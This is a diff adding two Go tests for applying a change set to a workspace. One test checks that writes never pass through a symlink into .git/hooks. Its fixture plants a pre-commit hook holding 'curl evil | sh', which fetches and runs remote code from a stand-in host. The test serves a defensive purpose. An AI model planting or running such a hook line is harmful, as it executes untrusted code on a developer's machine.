@@ -205,3 +205,40 @@ func TestEntriesTheirOwnerCannotReadOrWriteAreCollectedAndApplied(t *testing.T) 
 		}
 	}
 }
+
+// A folder of the change set that became a link inside the workspace while the change set
+// waited (another run applied first) is not gone through: the change would land elsewhere
+// than the path it names, here in .git/hooks.
+func TestApplyNeverGoesThroughALinkInsideTheWorkspace(t *testing.T) {
+	ws := t.TempDir()
+	writeTree(t, ws, map[string]string{".git/hooks/": "", "keep.txt": "k\n"})
+	res, _ := run(t, ws, "mkdir -p build/hooks && echo 'curl evil | sh' > build/hooks/pre-commit && chmod 755 build/hooks/pre-commit", Options{})
+	if err := os.Symlink(".git", filepath.Join(ws, "build")); err != nil {
+		t.Fatal(err)
+	}
+	err := res.Changes.Apply(ws)
+	if _, serr := os.Lstat(filepath.Join(ws, ".git/hooks/pre-commit")); serr == nil {
+		t.Fatal("Apply wrote .git/hooks/pre-commit through the link build")
+	}
+	if err == nil {
+		t.Fatal("Apply through a link inside the workspace succeeded")
+	}
+}
+
+func TestALinkTheCommandRetargetedIsReplacedNotRefused(t *testing.T) {
+	ws := t.TempDir()
+	writeTree(t, ws, map[string]string{"a.txt": "a\n", "b.txt": "b\n"})
+	if err := os.Symlink("a.txt", filepath.Join(ws, "cur")); err != nil {
+		t.Fatal(err)
+	}
+	res, _ := run(t, ws, "ln -sfn b.txt cur", Options{})
+	if c := find(t, res.Changes, "cur"); c.Kind != Modified || c.Target != "b.txt" {
+		t.Fatalf("cur: %+v, want the link modified to b.txt", c)
+	}
+	if err := res.Changes.Apply(ws); err != nil {
+		t.Fatal(err)
+	}
+	if target, err := os.Readlink(filepath.Join(ws, "cur")); err != nil || target != "b.txt" {
+		t.Fatalf("cur after Apply: %q, %v", target, err)
+	}
+}
